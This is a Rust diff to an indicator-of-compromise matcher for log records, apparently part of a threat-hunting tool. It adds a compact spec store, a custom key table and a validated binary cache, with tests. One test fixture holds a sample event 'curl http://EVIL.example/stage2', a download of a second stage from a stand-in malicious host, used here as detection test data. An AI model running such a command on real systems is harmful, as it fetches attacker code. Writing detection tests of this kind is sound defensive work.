@@ -15,9 +15,6 @@
 //!
 //! Matches are whole tokens and ignore case (except mutex names).
 
-use std::collections::HashMap as StdHashMap;
-
-type HashMap<K, V> = StdHashMap<K, V, foldhash::fast::RandomState>;
 use std::net::IpAddr;
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
@@ -25,6 +22,7 @@ use crrt_intel::{Kind, Observable};
 use ipnet::IpNet;
 use serde_json::Value;
 
+use crate::keytable::{EMPTY, Slot, Table};
 use crate::record::Record;
 
 /// One indicator to look for, with the name findings give it.
@@ -36,30 +34,188 @@ pub struct IndicatorSpec {
     pub tags: Vec<String>,
 }
 
+/// An indicator of a set, as findings name it.
+#[derive(Debug, Clone, Copy)]
+pub struct SpecRef<'a> {
+    pub id: &'a str,
+    pub kind: Kind,
+    pub value: &'a str,
+    tags: &'a [Span],
+    text: &'a str,
+}
+
+impl<'a> SpecRef<'a> {
+    pub fn tags(&self) -> impl Iterator<Item = &'a str> + use<'a> {
+        let text = self.text;
+        self.tags.iter().map(move |s| s.of(text))
+    }
+}
+
+/// A range of [`Specs::text`].
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+struct Span {
+    start: usize,
+    len: usize,
+}
+
+impl Span {
+    fn of(self, text: &str) -> &str {
+        text.get(self.start..self.start + self.len)
+            .unwrap_or_default()
+    }
+}
+
+#[derive(Debug, Clone, Copy)]
+struct Entry {
+    kind: Kind,
+    value: Span,
+    id: Span,
+    /// The entry's range of [`Specs::tags`].
+    tags: (u32, u32),
+}
+
+/// The indicators as one text and fixed-size entries: a cached set is
+/// loaded with a few copies, not 100,000 small strings.
+#[derive(Debug, Default)]
+struct Specs {
+    text: String,
+    entries: Vec<Entry>,
+    tags: Vec<Span>,
+}
+
+impl Specs {
+    fn push_text(&mut self, s: &str) -> Span {
+        let span = Span {
+            start: self.text.len(),
+            len: s.len(),
+        };
+        self.text.push_str(s);
+        span
+    }
+
+    fn push(&mut self, spec: &IndicatorSpec) {
+        let value = self.push_text(&spec.observable.value);
+        // The id is nearly always the value itself.
+        let id = if spec.id == spec.observable.value {
+            value
+        } else {
+            self.push_text(&spec.id)
+        };
+        let first = self.tags.len() as u32;
+        for tag in &spec.tags {
+            let span = self.push_text(tag);
+            self.tags.push(span);
+        }
+        self.entries.push(Entry {
+            kind: spec.observable.kind,
+            value,
+            id,
+            tags: (first, self.tags.len() as u32),
+        });
+    }
+
+    fn get(&self, n: usize) -> SpecRef<'_> {
+        let e = &self.entries[n];
+        SpecRef {
+            id: e.id.of(&self.text),
+            kind: e.kind,
+            value: e.value.of(&self.text),
+            tags: self
+                .tags
+                .get(e.tags.0 as usize..e.tags.1 as usize)
+                .unwrap_or_default(),
+            text: &self.text,
+        }
+    }
+
+    fn value(&self, n: usize) -> &str {
+        self.entries[n].value.of(&self.text)
+    }
+}
+
+/// What [`IndicatorSet::to_bytes`] writes first.
+const CACHE_MAGIC: &[u8; 16] = b"crrt-indicators\n";
+/// Bump when what a set holds, or how its keys are made, changes: a
+/// cached set of another revision is built again.
+const CACHE_REVISION: u64 = 2;
+/// A text whose key a cached set records (and a label's): keys from a
+/// build whose hashes differ would find nothing.
+const KEY_CHECK: &str = "crrt-indicators";
+
+/// What a cached set must begin with, after [`CACHE_MAGIC`].
+fn cache_check() -> u64 {
+    CACHE_REVISION ^ text_key(KEY_CHECK) ^ label_key("crrt").rotate_left(17)
+}
+
+fn put(out: &mut Vec<u8>, n: u64) {
+    out.extend(n.to_le_bytes());
+}
+
+/// Reads what [`IndicatorSet::to_bytes`] wrote; every read fails cleanly
+/// past the end.
+struct Reader<'a>(&'a [u8]);
+
+impl<'a> Reader<'a> {
+    fn take(&mut self, n: usize) -> Option<&'a [u8]> {
+        if self.0.len() < n {
+            return None;
+        }
+        let (head, rest) = self.0.split_at(n);
+        self.0 = rest;
+        Some(head)
+    }
+    fn array<const N: usize>(&mut self) -> Option<[u8; N]> {
+        self.take(N)?.try_into().ok()
+    }
+    fn u32(&mut self) -> Option<u32> {
+        Some(u32::from_le_bytes(self.array()?))
+    }
+    fn u64(&mut self) -> Option<u64> {
+        Some(u64::from_le_bytes(self.array()?))
+    }
+    fn u128(&mut self) -> Option<u128> {
+        Some(u128::from_le_bytes(self.array()?))
+    }
+    fn u32s(&mut self, n: usize) -> Option<Vec<u32>> {
+        let bytes = self.take(n.checked_mul(4)?)?;
+        Some(
+            bytes
+                .chunks_exact(4)
+                .map(|c| u32::from_le_bytes(c.try_into().unwrap_or_default()))
+                .collect(),
+        )
+    }
+    /// A count of items of at least `size` bytes each that the bytes left
+    /// could hold (a damaged count must not reserve gigabytes).
+    fn count(&mut self, size: usize) -> Option<usize> {
+        let n = usize::try_from(self.u64()?).ok()?;
+        (n.checked_mul(size)? <= self.0.len()).then_some(n)
+    }
+}
+
 /// A compiled set of indicators, `Send + Sync`, built once per hunt.
 pub struct IndicatorSet {
-    specs: Vec<IndicatorSpec>,
+    specs: Specs,
     /// Domains, file names and e-mail addresses by the [`text_key`] of
     /// their lower-cased text, to the first spec with that key;
     /// `same[spec]` chains the others (a hit is confirmed on the value, so
     /// two texts sharing a key cost a comparison, never a false hit).
-    /// Keys rather than strings: a 100,000-line feed builds its maps
-    /// without a copy of every value.
-    names: HashMap<u64, usize>,
+    names: Table<u64>,
     /// Hex digests, by key.
-    hashes: HashMap<u64, usize>,
+    hashes: Table<u64>,
     /// URLs by the key of their lower-cased host (`user@host` included,
     /// port not).
-    url_hosts: HashMap<u64, usize>,
-    addresses: HashMap<u128, usize>,
-    same: Vec<Option<usize>>,
+    url_hosts: Table<u64>,
+    addresses: Table<u128>,
+    same: Vec<u32>,
     /// CIDR blocks as (first, last) sorted by first, with the running
     /// maximum of `last`, for a binary search per address.
-    ranges: Vec<(u128, u128, usize)>,
+    ranges: Vec<(u128, u128, u32)>,
     max_last: Vec<u128>,
     /// Everything else, lower-cased; pattern i stands for `other_spec[i]`.
     others: Option<AhoCorasick>,
-    other_spec: Vec<usize>,
+    other_patterns: Vec<String>,
+    other_spec: Vec<u32>,
     /// Whether some name or URL host has neither `.` nor `@` (a file name
     /// without extension, `localhost`): only then are such runs, most of
     /// an event's words, looked up at all.
@@ -68,15 +224,13 @@ pub struct IndicatorSet {
     /// names and URL hosts: a run whose last label is not among them
     /// (`System.Management.Automation`, `$env.Path`) cannot be or end with
     /// one, and is not lowercased nor looked up further.
-    labels: HashSet<u64>,
+    labels: Table<u64>,
 }
-
-type HashSet<K> = std::collections::HashSet<K, foldhash::fast::RandomState>;
 
 impl std::fmt::Debug for IndicatorSet {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         f.debug_struct("IndicatorSet")
-            .field("indicators", &self.specs.len())
+            .field("indicators", &self.specs.entries.len())
             .field("ranges", &self.ranges.len())
             .field("others", &self.other_spec.len())
             .finish()
@@ -99,11 +253,35 @@ fn as_u128(ip: IpAddr) -> u128 {
     }
 }
 
-/// The map key of a lower-cased text (a fixed seed: keys are compared
-/// within one set only).
+/// The map key of a lower-cased text (a fixed seed: cached sets keep
+/// keys, and [`IndicatorSet::from_bytes`] checks they still agree).
 fn text_key(lower: &str) -> u64 {
     use std::hash::BuildHasher;
     foldhash::fast::FixedState::with_seed(0x0c22_7a7e).hash_one(lower)
+}
+
+/// The key of a last label in any case. Most labels (`exe`, `com`) fit
+/// in eight bytes: packed lower-cased, they need no hash (the multiply and
+/// shift, both invertible, spread them over the table). Longer ones are
+/// hashed; a packed key equal to a hash only costs a lookup more.
+fn label_key(label: &str) -> u64 {
+    let bytes = label.as_bytes();
+    let packed = if bytes.len() <= 8 {
+        bytes
+            .iter()
+            .fold(0u64, |k, b| (k << 8) | u64::from(b.to_ascii_lowercase()))
+    } else {
+        let mut buf = [0u8; 64];
+        let Some(buf) = buf.get_mut(..bytes.len()) else {
+            // Only ever asked when building, of a lower-cased label.
+            return text_key(label);
+        };
+        buf.copy_from_slice(bytes);
+        buf.make_ascii_lowercase();
+        return text_key(std::str::from_utf8(buf).unwrap_or(label));
+    };
+    let h = packed.wrapping_mul(0x9e37_79b9_7f4a_7c15);
+    h ^ (h >> 32)
 }
 
 const fn name_char(b: u8) -> bool {
@@ -116,6 +294,8 @@ const ALNUM: u8 = 2;
 const HEX: u8 = 4;
 /// `.` or `@`: a run with one may be a domain, file name or address.
 const MARK: u8 = 8;
+/// `:`, which every IPv6 address has.
+const COLON: u8 = 16;
 
 static CLASS: [u8; 256] = {
     let mut class = [0u8; 256];
@@ -134,6 +314,9 @@ static CLASS: [u8; 256] = {
         if c == b'.' || c == b'@' {
             class[b] |= MARK;
         }
+        if c == b':' {
+            class[b] |= COLON;
+        }
         b += 1;
     }
     class
@@ -150,42 +333,39 @@ fn last_label(text: &str) -> &str {
 impl IndicatorSet {
     pub fn new(specs: Vec<IndicatorSpec>) -> IndicatorSet {
         let mut set = IndicatorSet {
-            specs: Vec::new(),
-            names: HashMap::with_capacity_and_hasher(specs.len() / 2, Default::default()),
-            hashes: HashMap::with_capacity_and_hasher(specs.len() / 2, Default::default()),
-            url_hosts: HashMap::default(),
-            addresses: HashMap::with_capacity_and_hasher(specs.len() / 4, Default::default()),
-            same: vec![None; specs.len()],
+            specs: Specs::default(),
+            names: Table::with_capacity(specs.len() / 2),
+            hashes: Table::with_capacity(specs.len() / 2),
+            url_hosts: Table::with_capacity(0),
+            addresses: Table::with_capacity(specs.len() / 4),
+            same: Vec::with_capacity(specs.len()),
             ranges: Vec::new(),
             max_last: Vec::new(),
             others: None,
+            other_patterns: Vec::new(),
             other_spec: Vec::new(),
             dotless: false,
-            labels: HashSet::default(),
+            labels: Table::with_capacity(0),
         };
-        let mut others: Vec<String> = Vec::new();
-        // Keeps the first spec per key and chains the others behind it.
-        fn add<K: std::hash::Hash + Eq>(
-            map: &mut HashMap<K, usize>,
-            same: &mut [Option<usize>],
-            key: K,
-            n: usize,
-        ) {
-            match map.entry(key) {
-                std::collections::hash_map::Entry::Vacant(v) => {
-                    v.insert(n);
+        // Keeps the first spec per key and chains the others behind it
+        // (always forward: `n` is the newest).
+        fn add<K: Slot>(table: &mut Table<K>, same: &mut [u32], key: K, n: u32) {
+            if let Some(mut at) = table.insert(key, n) {
+                while same[at as usize] != EMPTY {
+                    at = same[at as usize];
                 }
-                std::collections::hash_map::Entry::Occupied(o) => {
-                    let mut at = *o.get();
-                    while let Some(next) = same[at] {
-                        at = next;
-                    }
-                    same[at] = Some(n);
-                }
+                same[at as usize] = n;
             }
         }
         let mut lower = String::new();
-        for (n, spec) in specs.iter().enumerate() {
+        for spec in &specs {
+            // Spec numbers are `u32`: four billion indicators would not
+            // fit in memory long before.
+            let Ok(n) = u32::try_from(set.same.len()) else {
+                break;
+            };
+            set.specs.push(spec);
+            set.same.push(EMPTY);
             let value = &spec.observable.value;
             lower.clear();
             lower.push_str(value);
@@ -216,18 +396,17 @@ impl IndicatorSet {
                 }
                 Kind::Domain | Kind::Email | Kind::FileName if value.bytes().all(name_char) => {
                     set.dotless |= !lower.contains(['.', '@']);
-                    set.labels.insert(text_key(last_label(&lower)));
+                    set.labels.insert(label_key(last_label(&lower)), 0);
                     add(&mut set.names, &mut set.same, text_key(&lower), n);
                 }
-                Kind::Url if url_host(&lower).is_some() => {
-                    let host = url_host(&lower).unwrap_or_default();
+                Kind::Url if let Some(host) = url_host(&lower) => {
                     set.dotless |= !host.contains(['.', '@']);
-                    set.labels.insert(text_key(last_label(host)));
+                    set.labels.insert(label_key(last_label(host)), 0);
                     add(&mut set.url_hosts, &mut set.same, text_key(host), n);
                 }
                 Kind::RegistryKey => {
                     // Sysmon writes hives abbreviated: HKLM\..., HKU\...
-                    others.push(lower.clone());
+                    set.other_patterns.push(lower.clone());
                     set.other_spec.push(n);
                     for (long, short) in [
                         ("hkey_local_machine\\", "hklm\\"),
@@ -236,20 +415,27 @@ impl IndicatorSet {
                         ("hkey_classes_root\\", "hkcr\\"),
                     ] {
                         if let Some(rest) = lower.strip_prefix(long) {
-                            others.push(format!("{short}{rest}"));
+                            set.other_patterns.push(format!("{short}{rest}"));
                             set.other_spec.push(n);
                         }
                     }
                 }
                 _ => {
-                    others.push(lower.clone());
+                    set.other_patterns.push(lower.clone());
                     set.other_spec.push(n);
                 }
             }
         }
         set.ranges.sort_unstable();
+        set.finish();
+        set
+    }
+
+    /// What is derived from the rest: the ranges' running maximum and the
+    /// automaton (built, not cached: it holds the few odd values only).
+    fn finish(&mut self) {
         let mut running = 0;
-        set.max_last = set
+        self.max_last = self
             .ranges
             .iter()
             .map(|(_, last, _)| {
@@ -257,28 +443,182 @@ impl IndicatorSet {
                 running
             })
             .collect();
-        set.others = (!others.is_empty())
+        self.others = (!self.other_patterns.is_empty())
             .then(|| {
                 AhoCorasickBuilder::new()
                     .match_kind(MatchKind::Standard)
-                    .build(&others)
+                    .build(&self.other_patterns)
                     .ok()
             })
             .flatten();
-        set.specs = specs;
-        set
+    }
+
+    /// The set as bytes for a cache; [`IndicatorSet::from_bytes`] reads
+    /// them back in a fraction of building it.
+    pub fn to_bytes(&self) -> Vec<u8> {
+        let mut out = CACHE_MAGIC.to_vec();
+        put(&mut out, cache_check());
+        put(&mut out, self.specs.text.len() as u64);
+        out.extend(self.specs.text.as_bytes());
+        put(&mut out, self.specs.entries.len() as u64);
+        for e in &self.specs.entries {
+            let kind = Kind::ALL.iter().position(|k| *k == e.kind).unwrap_or(0);
+            out.push(kind as u8);
+            for n in [e.value.start, e.value.len, e.id.start, e.id.len] {
+                put(&mut out, n as u64);
+            }
+            put(&mut out, u64::from(e.tags.0));
+            put(&mut out, u64::from(e.tags.1));
+        }
+        put(&mut out, self.specs.tags.len() as u64);
+        for s in &self.specs.tags {
+            put(&mut out, s.start as u64);
+            put(&mut out, s.len as u64);
+        }
+        for table in [&self.names, &self.hashes, &self.url_hosts, &self.labels] {
+            let (keys, values) = table.parts();
+            put(&mut out, keys.len() as u64);
+            keys.iter().for_each(|k| out.extend(k.to_le_bytes()));
+            values.iter().for_each(|v| out.extend(v.to_le_bytes()));
+        }
+        let (keys, values) = self.addresses.parts();
+        put(&mut out, keys.len() as u64);
+        keys.iter().for_each(|k| out.extend(k.to_le_bytes()));
+        values.iter().for_each(|v| out.extend(v.to_le_bytes()));
+        self.same.iter().for_each(|v| out.extend(v.to_le_bytes()));
+        put(&mut out, self.ranges.len() as u64);
+        for (first, last, spec) in &self.ranges {
+            out.extend(first.to_le_bytes());
+            out.extend(last.to_le_bytes());
+            out.extend(spec.to_le_bytes());
+        }
+        put(&mut out, self.other_patterns.len() as u64);
+        for (pattern, spec) in self.other_patterns.iter().zip(&self.other_spec) {
+            put(&mut out, pattern.len() as u64);
+            out.extend(pattern.as_bytes());
+            out.extend(spec.to_le_bytes());
+        }
+        out.push(u8::from(self.dotless));
+        out
+    }
+
+    /// A set written by [`IndicatorSet::to_bytes`] of this build; `None`
+    /// for anything else (truncated, damaged, another build's keys).
+    pub fn from_bytes(bytes: &[u8]) -> Option<IndicatorSet> {
+        let mut r = Reader(bytes.strip_prefix(CACHE_MAGIC.as_slice())?);
+        if r.u64()? != cache_check() {
+            return None;
+        }
+        let n = r.count(1)?;
+        let text = std::str::from_utf8(r.take(n)?).ok()?.to_owned();
+        let n_specs = r.count(49)?;
+        let mut entries = Vec::with_capacity(n_specs);
+        for _ in 0..n_specs {
+            let kind = *Kind::ALL.get(usize::from(r.take(1)?[0]))?;
+            let mut span = || -> Option<Span> {
+                let start = usize::try_from(r.u64()?).ok()?;
+                let len = usize::try_from(r.u64()?).ok()?;
+                // Spans are checked once here; `Span::of` still never panics.
+                text.get(start..start.checked_add(len)?)?;
+                Some(Span { start, len })
+            };
+            let (value, id) = (span()?, span()?);
+            let tags = (u32::try_from(r.u64()?).ok()?, u32::try_from(r.u64()?).ok()?);
+            entries.push(Entry {
+                kind,
+                value,
+                id,
+                tags,
+            });
+        }
+        let n_tags = r.count(16)?;
+        let mut tags = Vec::with_capacity(n_tags);
+        for _ in 0..n_tags {
+            let start = usize::try_from(r.u64()?).ok()?;
+            let len = usize::try_from(r.u64()?).ok()?;
+            text.get(start..start.checked_add(len)?)?;
+            tags.push(Span { start, len });
+        }
+        let in_range = |v: u32| v == EMPTY || (v as usize) < n_specs;
+        let table = |r: &mut Reader| -> Option<Table<u64>> {
+            let n = r.count(12)?;
+            let keys = r.take(n * 8)?.chunks_exact(8);
+            let keys = keys.map(|c| u64::from_le_bytes(c.try_into().unwrap_or_default()));
+            let values = r.u32s(n)?;
+            values.iter().all(|v| in_range(*v)).then_some(())?;
+            Table::from_parts(keys.collect(), values)
+        };
+        let (names, hashes, url_hosts) = (table(&mut r)?, table(&mut r)?, table(&mut r)?);
+        let labels = table(&mut r)?;
+        let n = r.count(20)?;
+        let keys = r.take(n * 16)?.chunks_exact(16);
+        let keys = keys.map(|c| u128::from_le_bytes(c.try_into().unwrap_or_default()));
+        let values = r.u32s(n)?;
+        values.iter().all(|v| in_range(*v)).then_some(())?;
+        let addresses = Table::from_parts(keys.collect(), values)?;
+        let same = r.u32s(n_specs)?;
+        // Chains run forward, so a damaged one cannot loop.
+        let forward = |(at, v): (usize, &u32)| *v == EMPTY || (at < *v as usize && in_range(*v));
+        same.iter().enumerate().all(forward).then_some(())?;
+        let n_ranges = r.count(36)?;
+        let mut ranges = Vec::with_capacity(n_ranges);
+        for _ in 0..n_ranges {
+            let range = (r.u128()?, r.u128()?, r.u32()?);
+            ((range.2 as usize) < n_specs).then_some(())?;
+            ranges.push(range);
+        }
+        ranges.is_sorted().then_some(())?;
+        let n_others = r.count(12)?;
+        let mut other_patterns = Vec::with_capacity(n_others);
+        let mut other_spec = Vec::with_capacity(n_others);
+        for _ in 0..n_others {
+            let n = r.count(1)?;
+            other_patterns.push(std::str::from_utf8(r.take(n)?).ok()?.to_owned());
+            let spec = r.u32()?;
+            ((spec as usize) < n_specs).then_some(())?;
+            other_spec.push(spec);
+        }
+        let dotless = match r.take(1)? {
+            [0] => false,
+            [1] => true,
+            _ => return None,
+        };
+        if !r.0.is_empty() {
+            return None;
+        }
+        let mut set = IndicatorSet {
+            specs: Specs {
+                text,
+                entries,
+                tags,
+            },
+            names,
+            hashes,
+            url_hosts,
+            addresses,
+            same,
+            ranges,
+            max_last: Vec::new(),
+            others: None,
+            other_patterns,
+            other_spec,
+            dotless,
+            labels,
+        };
+        set.finish();
+        Some(set)
     }
 
     pub fn len(&self) -> usize {
-        self.specs.len()
+        self.specs.entries.len()
     }
 
     pub fn is_empty(&self) -> bool {
-        self.specs.is_empty()
+        self.specs.entries.is_empty()
     }
 
-    pub fn spec(&self, n: usize) -> &IndicatorSpec {
-        &self.specs[n]
+    pub fn spec(&self, n: usize) -> SpecRef<'_> {
+        self.specs.get(n)
     }
 
     /// Every indicator in the record, once each, with the first field it
@@ -286,40 +626,31 @@ impl IndicatorSet {
     pub fn find(&self, record: &Record) -> Vec<IndicatorHit> {
         let mut hits: Vec<IndicatorHit> = Vec::new();
         let mut scratch = Scratch::default();
-        let mut path = String::new();
+        let mut path = Vec::new();
         self.walk(&record.fields, &mut path, &mut hits, &mut scratch);
         hits
     }
 
-    fn walk(
+    /// `path` holds the keys down to `value`, joined only for a hit.
+    fn walk<'v>(
         &self,
-        value: &Value,
-        path: &mut String,
+        value: &'v Value,
+        path: &mut Vec<&'v str>,
         hits: &mut Vec<IndicatorHit>,
         scratch: &mut Scratch,
     ) {
         match value {
-            Value::String(text) => {
-                scratch.found.clear();
-                self.find_in(text, scratch);
-                for &spec in &scratch.found {
-                    if !hits.iter().any(|h| h.spec == spec) {
-                        hits.push(IndicatorHit {
-                            spec,
-                            field: path.clone(),
-                        });
-                    }
-                }
-            }
+            Value::String(text) => self.field(text, path, hits, scratch),
             Value::Object(map) => {
                 for (key, inner) in map {
-                    let before = path.len();
-                    if !path.is_empty() {
-                        path.push('.');
+                    path.push(key);
+                    // Most fields are strings: no call for them.
+                    match inner {
+                        Value::String(text) => self.field(text, path, hits, scratch),
+                        Value::Object(_) | Value::Array(_) => self.walk(inner, path, hits, scratch),
+                        _ => {}
                     }
-                    path.push_str(key);
-                    self.walk(inner, path, hits, scratch);
-                    path.truncate(before);
+                    path.pop();
                 }
             }
             Value::Array(items) => {
@@ -331,6 +662,25 @@ impl IndicatorSet {
         }
     }
 
+    fn field(
+        &self,
+        text: &str,
+        path: &[&str],
+        hits: &mut Vec<IndicatorHit>,
+        scratch: &mut Scratch,
+    ) {
+        scratch.found.clear();
+        self.find_in(text, scratch);
+        for &spec in &scratch.found {
+            if !hits.iter().any(|h| h.spec == spec) {
+                hits.push(IndicatorHit {
+                    spec,
+                    field: path.join("."),
+                });
+            }
+        }
+    }
+
     fn find_in(&self, text: &str, scratch: &mut Scratch) {
         let bytes = text.as_bytes();
         scratch.urls.clear();
@@ -338,8 +688,12 @@ impl IndicatorSet {
         // One pass over the bytes: runs of name characters, and within
         // them the alphanumeric tokens a digest would be.
         let mut i = 0;
+        // The classes of the bytes between runs (a colon is one).
+        let mut between = 0;
         while i < bytes.len() {
-            if CLASS[usize::from(bytes[i])] & NAME == 0 {
+            let class = CLASS[usize::from(bytes[i])];
+            if class & NAME == 0 {
+                between |= class;
                 i += 1;
                 continue;
             }
@@ -368,9 +722,13 @@ impl IndicatorSet {
                 i += 1;
                 token = i;
             }
-            self.run(&text[start..i], marked, scratch);
+            // A run without `.` or `@` is neither a name (unless some are
+            // dotless) nor an address: most of an event's words.
+            if marked || self.dotless {
+                self.run(&text[start..i], marked, scratch);
+            }
         }
-        if (!self.addresses.is_empty() || !self.ranges.is_empty()) && text.contains(':') {
+        if (!self.addresses.is_empty() || !self.ranges.is_empty()) && between & COLON != 0 {
             self.ipv6_runs(text, scratch);
         }
         let token = |b: u8| b.is_ascii_alphanumeric();
@@ -381,7 +739,7 @@ impl IndicatorSet {
             scratch.lower.make_ascii_lowercase();
             let lower = scratch.lower.as_bytes();
             for &spec in &scratch.urls {
-                let url = self.specs[spec].observable.value.to_ascii_lowercase();
+                let url = self.specs.value(spec).to_ascii_lowercase();
                 let whole = memchr::memmem::find_iter(lower, url.as_bytes()).any(|at| {
                     let end = at + url.len();
                     (at == 0 || !token(lower[at - 1])) && (end == lower.len() || !token(lower[end]))
@@ -396,12 +754,12 @@ impl IndicatorSet {
             scratch.lower.push_str(text);
             scratch.lower.make_ascii_lowercase();
             for m in others.find_overlapping_iter(scratch.lower.as_str()) {
-                let spec = self.other_spec[m.pattern().as_usize()];
+                let spec = self.other_spec[m.pattern().as_usize()] as usize;
                 let whole = (m.start() == 0 || !token(bytes[m.start() - 1]))
                     && (m.end() == bytes.len() || !token(bytes[m.end()]));
                 // Mutex names are the one kind compared with case.
-                let exact = self.specs[spec].observable.kind != Kind::Mutex
-                    || text[m.start()..m.end()] == self.specs[spec].observable.value;
+                let exact = self.specs.entries[spec].kind != Kind::Mutex
+                    || text[m.start()..m.end()] == *self.specs.value(spec);
                 if whole && exact {
                     scratch.found.push(spec);
                 }
@@ -429,12 +787,12 @@ impl IndicatorSet {
             // The whole run, its domain part after an `@`, and each part
             // after a dot (a subdomain reaches its parent domain).
             let mut look = |candidate: &str| {
-                if let Some(&first) = self.names.get(&text_key(candidate)) {
+                if let Some(first) = self.names.get(text_key(candidate)) {
                     self.chain_equal(first, candidate, &mut scratch.found);
                 }
             };
             look(lower);
-            if let Some(&first) = self.url_hosts.get(&text_key(lower)) {
+            if let Some(first) = self.url_hosts.get(text_key(lower)) {
                 // Confirmed later, on the whole URL.
                 self.chain(first, &mut scratch.urls);
             }
@@ -461,16 +819,9 @@ impl IndicatorSet {
 
     /// Whether the run's last label is one a name or URL host ends with.
     fn may_name(&self, run: &str) -> bool {
-        let label = last_label(run).as_bytes();
-        let mut buf = [0u8; 64];
-        let Some(buf) = buf.get_mut(..label.len()) else {
-            // Longer than any label worth a filter: look it up.
-            return true;
-        };
-        buf.copy_from_slice(label);
-        buf.make_ascii_lowercase();
-        let lower = std::str::from_utf8(buf).unwrap_or_default();
-        self.labels.contains(&text_key(lower))
+        let label = last_label(run);
+        // Longer than any label worth a filter: look it up.
+        label.len() > 64 || self.labels.get(label_key(label)).is_some()
     }
 
     /// A token of 32, 40 or 64 hex digits.
@@ -480,7 +831,7 @@ impl IndicatorSet {
         buf.copy_from_slice(token);
         buf.make_ascii_lowercase();
         let lower = std::str::from_utf8(buf).unwrap_or_default();
-        if let Some(&first) = self.hashes.get(&text_key(lower)) {
+        if let Some(first) = self.hashes.get(text_key(lower)) {
             self.chain_equal(first, lower, &mut scratch.found);
         }
     }
@@ -519,28 +870,28 @@ impl IndicatorSet {
 
     /// The specs chained under a key whose value is `lower` (ignoring
     /// ASCII case).
-    fn chain_equal(&self, first: usize, lower: &str, found: &mut Vec<usize>) {
-        let mut at = Some(first);
-        while let Some(n) = at {
-            if self.specs[n].observable.value.eq_ignore_ascii_case(lower) {
-                found.push(n);
+    fn chain_equal(&self, first: u32, lower: &str, found: &mut Vec<usize>) {
+        let mut at = first;
+        while at != EMPTY {
+            if self.specs.value(at as usize).eq_ignore_ascii_case(lower) {
+                found.push(at as usize);
             }
-            at = self.same[n];
+            at = self.same[at as usize];
         }
     }
 
     /// A spec and the others chained behind it under the same key.
-    fn chain(&self, first: usize, found: &mut Vec<usize>) {
-        let mut at = Some(first);
-        while let Some(n) = at {
-            found.push(n);
-            at = self.same[n];
+    fn chain(&self, first: u32, found: &mut Vec<usize>) {
+        let mut at = first;
+        while at != EMPTY {
+            found.push(at as usize);
+            at = self.same[at as usize];
         }
     }
 
     fn address(&self, ip: IpAddr, scratch: &mut Scratch) {
         let ip = as_u128(ip);
-        if let Some(&first) = self.addresses.get(&ip) {
+        if let Some(first) = self.addresses.get(ip) {
             self.chain(first, &mut scratch.found);
         }
         // Ranges starting at or before the address; walk back while an
@@ -550,7 +901,7 @@ impl IndicatorSet {
             i -= 1;
             let (first, last, spec) = self.ranges[i];
             if first <= ip && ip <= last {
-                scratch.found.push(spec);
+                scratch.found.push(spec as usize);
             }
         }
     }
@@ -740,6 +1091,7 @@ mod tests {
             "bob@mail.example",
             "filename:Stage2.EXE",
             &format!("filename:{long}"),
+            "c2.evil.frontpages",
         ]);
         // Every candidate of a run (whole, after `@`, after each dot) ends
         // with the run's last label, whatever its case.
@@ -754,6 +1106,11 @@ mod tests {
         assert_eq!(
             found(&s, serde_json::json!({"a": "C:\\Temp\\stage2.exe"})).len(),
             1
+        );
+        assert_eq!(
+            found(&s, serde_json::json!({"a": "C2.EVIL.FrontPages"})).len(),
+            1,
+            "a label longer than eight letters"
         );
         assert_eq!(
             found(
@@ -791,5 +1148,57 @@ mod tests {
         hits.sort();
         assert_eq!(hits, ["10.1.2.3@m", "2001:db8::5@m", "fe80::/10@m"]);
         assert!(found(&s, serde_json::json!({"m": "2001:db8::6 at 12:30:01"})).is_empty());
+    }
+
+    #[test]
+    fn a_set_read_back_from_its_bytes_finds_the_same() {
+        let lines = [
+            "evil.example",
+            "EVIL.example",
+            "bob@mail.example",
+            "filename:dropper",
+            "hxxp://evil[.]example/stage2",
+            "185.61.137.4",
+            "2001:db8::5",
+            "10.66.0.0/16",
+            "10.0.0.0/8",
+            "a196c6b8ffcb97ffb276d04f354696e2391311db3841ae16c8c9f56f36a38e92",
+            r"mutex:Global\WG",
+            r"HKEY_LOCAL_MACHINE\SOFTWARE\Run\x",
+        ];
+        let built = set(&lines);
+        let bytes = built.to_bytes();
+        let read = IndicatorSet::from_bytes(&bytes).expect("reads");
+        assert_eq!(read.to_bytes(), bytes, "nothing lost");
+        let event = serde_json::json!({
+            "a": "curl http://EVIL.example/stage2 from 10.66.1.1 and 185.61.137.4",
+            "b": ["to bob@mail.example", "C:\\Temp\\DROPPER", "[2001:db8::5]:443"],
+            "c": "SHA256=A196C6B8FFCB97FFB276D04F354696E2391311DB3841AE16C8C9F56F36A38E92",
+            "d": "Global\\WG HKLM\\SOFTWARE\\Run\\x",
+        });
+        let mut hits = found(&read, event.clone());
+        hits.sort();
+        let mut expected = found(&built, event);
+        expected.sort();
+        assert_eq!(hits, expected);
+        assert_eq!(hits.len(), lines.len(), "{hits:?}");
+
+        for cut in 0..bytes.len() {
+            assert!(
+                IndicatorSet::from_bytes(&bytes[..cut]).is_none(),
+                "cut at {cut}"
+            );
+        }
+        // Another build's keys, or a chain that runs back (it would loop).
+        let mut other = bytes.clone();
+        other[CACHE_MAGIC.len()] ^= 1;
+        assert!(IndicatorSet::from_bytes(&other).is_none());
+        let backward = set(&["a.example", "A.example"]);
+        let mut bytes = backward.to_bytes();
+        let same_at = bytes.len() - (2 * 4 + 8 + 8 + 1);
+        assert_eq!(bytes[same_at..same_at + 4], 1u32.to_le_bytes());
+        bytes[same_at..same_at + 4].copy_from_slice(&0u32.to_le_bytes());
+        assert!(IndicatorSet::from_bytes(&bytes).is_none());
+        assert!(IndicatorSet::from_bytes(&IndicatorSet::new(Vec::new()).to_bytes()).is_some());
     }
 }
